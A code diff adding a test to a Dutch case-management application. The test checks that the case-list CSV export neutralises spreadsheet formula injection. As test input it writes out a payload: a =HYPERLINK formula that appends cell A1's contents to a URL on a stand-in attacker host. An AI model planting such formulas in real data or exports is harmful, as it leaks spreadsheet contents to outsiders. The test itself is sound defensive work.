@@ -217,6 +217,26 @@ def test_the_export_is_the_filtered_list_and_is_logged(client, casus, regisseur)
     assert Verwerkingslog.objects.filter(name="Casuslijst geëxporteerd").count() == 1
 
 
+def test_the_export_lets_no_formula_through(client, triaged, regisseur):
+    import csv
+    import io
+
+    from goedwonen.casussen.services import casus_create
+
+    title = '=HYPERLINK("https://evil.example/?d="&A1,"Open de casus")'
+    casus = casus_create(
+        actor=regisseur,
+        titel=title,
+        categorieen=["overbewoning"],
+        casusregisseur=regisseur,
+        meldingen=[triaged],
+    )
+    client.force_login(regisseur)
+    body = client.get(reverse("casussen-export")).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
+    assert rows[1][:3] == [casus.referentie, "'" + title, "Geregistreerd"]
+
+
 def test_the_address_page_lists_the_cases_the_viewer_may_see(
     client, casus, make_user, partner_organisatie
 ):
